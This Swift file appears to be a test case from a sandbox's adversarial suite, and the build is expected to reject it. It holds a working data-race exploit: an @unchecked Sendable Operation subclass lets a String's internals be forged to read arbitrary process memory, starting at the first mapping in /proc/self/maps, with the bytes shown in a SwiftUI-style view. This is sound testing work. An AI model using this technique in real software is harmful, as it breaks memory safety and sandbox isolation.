// Attack (from a sixth break-it pass of issue 30): subclass a Foundation class that is `@unchecked Sendable`, so
// that the subclass's own non-Sendable state crosses threads unchecked, then race on it as in 25 to read any address.
// The compiler's warning for such a subclass is a refusal.
// stage: build
// message: inherits a Sendable conformance that Swift does not check
import Foundation
import ViewSim

struct Quad { var a = 0, b = 0, c = 0, d = 0 }
final class Victim {
    var p0 = 0, p1 = 0
    var s: String = "placeholder placeholder placeholder"
    var p2 = 0, p3 = 0, p4 = 0, p5 = 0, p6 = 0, p7 = 0
}
final class Holder {
    var arr: [Quad] = [Quad(), Quad()]
    let freed = DispatchSemaphore(value: 0)
    let go = DispatchSemaphore(value: 0)
    var keep: [Victim] = []
}
func poke(_ q: inout Quad, _ h: Holder, _ address: UInt, _ count: Int) -> [UInt8] {
    h.go.signal()
    h.freed.wait()
    q.a = count | (1 << 60)
    q.b = Int(bitPattern: (1 << 63) | (address - 32))
    return Array(h.keep[0].s.utf8)
}

// Operation is an open `@unchecked Sendable` class: a subclass is Sendable with its stored properties unchecked
// (Swift only warns "must restate inherited '@unchecked Sendable' conformance").
final class Carrier: Operation {
    let holder: Holder
    init(_ holder: Holder) { self.holder = holder }
}

func peek(_ address: UInt, _ count: Int) -> [UInt8] {
    let h = Holder()
    h.keep.reserveCapacity(16)
    let carrier = Carrier(h)
    let t = Thread {
        let other = carrier.holder
        other.go.wait(); other.arr = []; other.keep.append(Victim()); other.freed.signal()
    }
    t.start()
    return poke(&h.arr[0], h, address, count)
}

let report: String = {
    guard let maps = try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8),
          let first = maps.split(separator: "\n").first,
          let start = first.split(separator: "-").first, let address = UInt(start, radix: 16) else { return "no maps" }
    let bytes = peek(address, 16)
    return "first mapping \(first) bytes " + bytes.map { $0 < 16 ? "0\(String($0, radix: 16))" : String($0, radix: 16) }.joined(separator: " ")
}()

struct SessionTally: View {
    @State private var sessions = -1

    var body: some View {
        VStack {
            Text("Sessions today: \(sessions)")
            Button("Log a session") { sessions += 1 }
        }
    }
}

struct FocusScreen: View {
    @State private var showsTally = true

    var body: some View {
        VStack {
            Text("REPORT " + report)
            Toggle("Show tally", isOn: $showsTally)
            if showsTally {
                SessionTally()
            }
        }
    }
}
